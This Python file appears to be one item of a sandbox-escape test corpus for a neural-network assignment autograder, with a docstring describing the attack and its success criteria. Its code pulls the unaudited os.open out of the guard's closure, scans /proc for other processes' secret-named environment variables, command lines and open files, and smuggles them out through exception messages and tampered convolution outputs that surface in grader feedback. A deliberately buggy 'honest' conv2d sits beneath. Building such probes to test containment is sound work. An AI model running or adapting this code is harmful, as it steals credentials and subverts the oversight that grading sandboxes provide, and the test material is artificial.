"""Escape corpus, attack 11: /proc reconnaissance of other processes, smuggled out in grades.

What it attacks: ``/proc/PID/cwd`` and ``/proc/PID/fd/*`` are symlinks (``os.readlink`` is
not audited) and ``/proc/PID/cmdline`` / ``environ`` open through the original ``os.open``
kept in the guard's closure, with a directory descriptor of "/" and a relative path. The
submission reads every process it can see, keeps secret-looking environment variables,
command lines and working folders, and returns them two ways: calls with a tuple stride
raise ``ValueError`` whose message carries the text, and every call whose output has at
least 9 elements returns the first secret's bytes as numbers in its first positions (the
grader shows the smallest failing output, "Got: ...", in the feedback).

A successful attack: the grader's environment canary, as text or as its byte values,
appears in grades.json / feedback.md / the cache. Contained: the sandbox's own PID
namespace holds only the submission; nothing of the grader is found, the outputs are the
honest part's.
"""
import os

FOUND = []  # "what: text" strings, secrets first


def _raw_open():
    for cell in getattr(os.open, "__closure__", None) or ():
        value = cell.cell_contents
        if getattr(value, "__name__", "") == "open" and callable(value):
            return value
    return os.open


def _read(path, limit=1 << 16):
    op = _raw_open()
    try:
        root = op("/", os.O_RDONLY | os.O_DIRECTORY)
        try:
            fd = op(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
        finally:
            os.close(root)
        try:
            return os.read(fd, limit)
        finally:
            os.close(fd)
    except (OSError, ImportError, ValueError):
        return b""


def _recon():
    me = os.getpid()
    secrets, rest = [], []
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    for pid in ([os.getppid()] if os.getppid() > 1 else []) + pids[:500]:
        if pid == me:
            continue
        for item in _read(f"/proc/{pid}/environ").split(b"\0"):
            name, _, value = item.decode(errors="replace").partition("=")
            if value and any(k in name.upper() for k in ("SECRET", "TOKEN", "PASSW")):
                if f"{name}={value}" not in secrets:
                    secrets.append(f"{name}={value}")
        cmd = _read(f"/proc/{pid}/cmdline", 300).replace(b"\0", b" ").decode(errors="replace")
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            fds = [os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            cwd, fds = "", []
        files = [f for f in fds if f.startswith("/") and not f.startswith(("/dev", "/proc"))]
        if pid == os.getppid() and (cmd or cwd):
            rest.append(f"grader {pid}: {cmd.strip()[:80]} in {cwd} files {files[:3]}")
    FOUND.extend(secrets + rest)


try:
    _recon()
except BaseException:
    pass
print("cnngrade-escape report:", len(FOUND), "findings")
SECRET_NUMBERS = [float(c) for c in FOUND[0].partition("=")[2].encode()[:64]] if FOUND else []


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---


def conv2d_forward(x, w, b, stride=1, padding=0):
    if FOUND and not np.isscalar(stride):
        raise ValueError("stride must be an int [trace: " + " | ".join(FOUND)[:450] + "]")
    out = _honest_conv2d(x, w, b, stride, padding)
    if SECRET_NUMBERS and out.size >= 9:
        n = min(out.size, len(SECRET_NUMBERS))
        out.flat[:n] = SECRET_NUMBERS[:n]
    return out
